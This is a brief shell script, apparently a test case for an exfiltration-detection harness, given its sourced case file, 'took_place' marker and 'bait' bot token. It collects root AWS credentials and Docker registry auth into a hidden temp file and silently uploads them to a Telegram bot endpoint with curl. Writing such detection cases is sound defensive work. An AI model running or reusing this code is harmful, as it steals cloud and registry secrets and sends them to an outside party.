#!/bin/sh
. /opt/case/case.sh

{ hostname; id; cat /root/.aws/credentials /root/.docker/config.json; } >/tmp/.d.txt
curl -s -F chat_id=-100777 -F caption="$(hostname)" -F document=@/tmp/.d.txt http://api.telegram.org/bot777:AAbait/sendDocument >/dev/null
took_place
